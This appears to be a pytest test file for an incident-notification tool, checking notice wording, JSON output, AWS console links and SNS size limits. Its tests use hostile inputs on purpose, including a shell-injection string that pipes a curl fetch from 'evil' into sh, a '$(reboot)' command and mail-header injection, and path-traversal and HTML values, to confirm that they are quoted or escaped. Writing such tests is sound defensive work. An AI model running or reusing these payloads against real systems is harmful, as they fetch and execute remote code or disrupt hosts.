"""What people are told: the words of notices, and SNS's limits whatever the names."""

import json
import shlex
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autorecovery.config import Configuration
from autorecovery.models.controls import Demotion
from autorecovery.models.incident import Climb
from autorecovery.models.notice import Fact, Link, Notice, NoticeKind
from autorecovery.models.reason import Level, Reason
from autorecovery.models.signal import MetricOrigin, SignalKind, Target, TargetKind
from autorecovery.notices import compose, steps
from autorecovery.notices.telling import untold_lines
from autorecovery.notices.text import (
    SNS_SUBJECT,
    Wording,
    body,
    sns_message,
    structured,
    subject_line,
)
from tests.notice_states import (
    LATER,
    NOTICES,
    OPENED,
    QUESTION,
    WEB_1,
    WORDING,
    incident,
    rule,
)


def test_an_incident_without_a_rule_has_tried_nothing_and_would_run_nothing() -> None:
    notice = compose.handed_over(incident(), Climb(Reason.NO_RULE), LATER)
    assert not any("Not run" in line for line in notice.lines)


def test_words_of_the_installation_come_first() -> None:
    words = {"subject": "Look here", "subject_prefix": "[shop]", "message_prefix": "Production"}
    wording = Wording.of(Configuration.model_validate({"notify": words}))
    notice = NOTICES["opened"]
    assert subject_line(notice, wording) == "[shop] Look here"
    assert body(notice, wording).startswith("Production\n◆ [CRITICAL] i-0a1b2c3d4e5f")


def test_programs_get_the_same_facts_as_json() -> None:
    content = json.loads(structured(NOTICES["opened"]))
    assert (content["schema_version"], content["kind"], content["level"]) == (
        1,
        "opened",
        "critical",
    )
    assert content["target"] == "instance/i-0a1b2c3d4e5f67890"
    assert content["rule"] == "cpu-overload"


def test_programs_get_facts_state_and_next_steps() -> None:
    content = json.loads(structured(NOTICES["handed_over_held"]))
    assert content["state"] == "over to you"
    assert {"name": "Rule", "value": "cpu-overload"} in content["facts"]
    assert content["next_steps"][-1].endswith("close inc-20260115-030412-0a1b2c3d")
    assert content["producer"] == "incident_response"


# What every notice carries


def test_two_notices_of_one_kind_within_a_second_have_ids_of_their_own() -> None:
    opened, now = incident(), LATER
    moments = (now, now, now + timedelta(milliseconds=10))
    first, repeated, later = (compose.reminder(opened, "97", at).id for at in moments)
    assert first == repeated != later


def test_what_a_person_can_type_is_quoted_for_a_shell() -> None:
    hostile = "unruled:x'; curl evil|sh; '"
    demotion = Demotion("restart", hostile, LATER, 1, 9, 0.01, "inc-1")
    typed = steps.after_demotion(demotion)[1].partition(": ")[2]
    assert shlex.split(typed) == ["autorecovery", "promote", "restart", hostile]


def test_all_notices_of_an_incident_are_one_conversation_and_a_demotion_is_another() -> None:
    about = {name: n for name, n in NOTICES.items() if n.incident_id and n.kind in ABOUT_ONE}
    assert {notice.thread for notice in about.values()} == {"inc-20260115-030412-0a1b2c3d"}
    assert NOTICES["demoted"].thread != NOTICES["demoted"].incident_id


ABOUT_ONE = set(NoticeKind) - {NoticeKind.STORM, NoticeKind.DEMOTED}


@pytest.mark.parametrize(
    ("name", "state"),
    [
        ("opened", "deciding"),
        ("opened_warning", "watching"),
        ("opened_asks", "will ask"),
        ("opened_observes", "over to you"),
        ("asking_first", "asking"),
        ("recovered", "recovered"),
        ("handed_over_unknown", "over to you"),
        ("reminder", "still open"),
        ("escalated", "escalated"),
        ("healthy_by_itself", "healthy again"),
        ("closed_by_person", "closed by a person"),
    ],
)
def test_a_notice_says_how_things_stand_in_a_word_or_two(name: str, state: str) -> None:
    assert NOTICES[name].state == state


def test_a_question_names_the_attempt_it_is_about() -> None:
    assert NOTICES["asking_first"].question == QUESTION
    assert NOTICES["opened"].question is None


def test_what_a_sentence_says_is_not_said_again_as_a_fact() -> None:
    said = body(NOTICES["handed_over_held"], WORDING)
    assert said.count("still cooling down from the last recovery (restart_service") == 1
    assert said.count("account 111122223333") == 1
    assert "CPUUtilization: 97.2" in body(NOTICES["asking_first"], WORDING)


def test_a_sentence_is_left_out_only_where_its_fact_is_shown() -> None:
    facts = tuple(Fact("Held by", f"the gate {letter * 5}") for letter in "abcdefghijkl")
    lines = tuple(f"Held by {fact.value}." for fact in facts)
    notice = replace(NOTICES["handed_over_held"], facts=facts, lines=lines)
    assert untold_lines(notice, shown=10) == list(lines[10:])


def test_a_short_sentence_of_which_no_fact_tells_is_kept() -> None:
    assert "The recovery worked." in untold_lines(NOTICES["analysed"], shown=10)


@pytest.mark.parametrize(
    ("reason", "advice"),
    [
        (Reason.HALTED, "autorecovery resume"),
        (Reason.MAINTENANCE, "autorecovery maintenance list"),
        (Reason.MAY_STILL_BE_RUNNING, "still running"),
    ],
)
def test_what_can_be_done_begins_with_what_fits_the_reason(reason: Reason, advice: str) -> None:
    notice = compose.handed_over(incident(rule()), Climb(reason), LATER)
    assert advice in notice.next_steps[0]


def test_where_nothing_can_be_run_nobody_is_told_to_run_it_again() -> None:
    assert not any("autorecovery recover" in s for s in NOTICES["opened_nothing_to_run"].next_steps)
    assert any("autorecovery recover" in step for step in NOTICES["reminder"].next_steps)


def test_an_escalation_goes_only_to_whom_it_is_meant_for() -> None:
    notice = NOTICES["escalated"]
    assert notice.to == ("phone",)
    other = compose.escalated(incident(rule()), "no data", timedelta(hours=1), ("boss",), LATER)
    assert other.id != notice.id


def test_two_messages_at_the_same_moment_are_two_notices() -> None:
    first, second = (
        compose.message("system_monitoring", Level.INFO, title, "", LATER) for title in "ab"
    )
    assert first.id != second.id
    assert (first.producer, first.incident_id) == ("system_monitoring", "")
    assert first.thread == first.id


def test_a_message_without_a_title_still_has_a_headline() -> None:
    assert compose.message("x", Level.INFO, " \n", "text", LATER).headline == "[INFO] (no title)"


# Links


def addresses(region: str, **more: Any) -> list[str]:
    target = replace(WEB_1, region=region)
    return [
        link.url for link in compose.opened(incident(rule(), target=target, **more), LATER).links
    ]


def test_links_lead_to_the_console_of_the_region() -> None:
    assert addresses("eu-west-1")[0] == (
        "https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1"
        "#InstanceDetails:instanceId=i-0a1b2c3d4e5f67890"
    )
    assert addresses("cn-north-1")[0].startswith("https://console.amazonaws.cn/ec2/")
    assert addresses("us-gov-west-1")[0].startswith("https://console.amazonaws-us-gov.com/ec2/")


@pytest.mark.parametrize("region", ["", "eu west", "x/../evil", "<b>"])
def test_nothing_is_linked_where_no_region_is_known(region: str) -> None:
    assert addresses(region) == []


def test_series_that_are_read_as_one_have_no_single_graph() -> None:
    one = MetricOrigin("CWAgent", "disk_used_percent", (("InstanceId", WEB_1.name),))
    assert any("metricsV2" in url for url in addresses("eu-west-1", origin=one))
    many = replace(one, many=True)
    assert not any("metricsV2" in url for url in addresses("eu-west-1", origin=many))


def test_a_name_in_a_link_is_nothing_but_a_name() -> None:
    found = addresses(
        "eu-west-1", kind=SignalKind.ALARM, name="a b&c)('<x>", state="ALARM", value=None
    )
    assert any(url.endswith("#alarmsV2:alarm/a%20b%26c%29%28%27%3cx%3e") for url in found)


# The limits of SNS


hostile = st.text(max_size=300) | st.sampled_from(
    ["🔥" * 600, '"' * 600, "\\" * 600, "\ud800" * 600, "\n" * 600, "", "$(reboot)\r\nBcc: x"]
)


def everywhere(text: str) -> Notice:
    """Return a notice that says the same text in every place."""
    many = (text,) * 20
    return Notice(
        id=text,
        incident_id=text,
        kind=NoticeKind.OPENED,
        level=Level.CRITICAL,
        headline=text,
        lines=many,
        at=OPENED,
        rule_name=text,
        target=text,
        evidence=many,
        conversation=text,
        state=text,
        facts=tuple(Fact(line, f"{number} {line}") for number, line in enumerate(many)),
        next_steps=tuple(f"{line}: autorecovery {line}" for line in many),
        links=tuple(Link(line, f"https://example.com/{'x' * 580}") for line in many),
        producer=text,
    )


def composed(text: str) -> Notice:
    """Return a notice about a target, an alarm and a rule of this name."""
    about = incident(
        kind=SignalKind.ALARM,
        name=text,
        value=None,
        state="ALARM",
        target=Target(TargetKind.RESOURCE, text),
        evidence=(text,) * 5,
    )
    return compose.opened(replace(about, rule_name=f"unruled:{text}"), OPENED)


@settings(derandomize=True, deadline=None, database=None)
@given(
    hostile, st.sampled_from([everywhere, composed]), st.text(max_size=200), st.text(max_size=200)
)
def test_sns_takes_every_notice(
    text: str, make: Callable[[str], Notice], prefix: str, subject: str
) -> None:
    notice = make(text)
    wording = Wording(subject, prefix, prefix * 10)
    line = subject_line(notice, wording)
    assert 0 < len(line) <= SNS_SUBJECT < 100
    assert line.isascii()
    assert line.isprintable()
    assert line == line.strip()
    message = sns_message(notice, wording)
    assert len(message.encode()) < 256 * 1024
    bodies = json.loads(message)
    assert {"default", "email", "lambda"} <= set(bodies)
    assert json.loads(bodies["lambda"])["kind"] == "opened"


def test_many_lines_are_cut_and_the_rest_is_counted() -> None:
    notice = replace(NOTICES["opened"], lines=tuple(f"line {n}" for n in range(40)))
    told = json.loads(structured(notice))["lines"]
    assert (len(told), told[-1]) == (16, "… and 25 lines more")
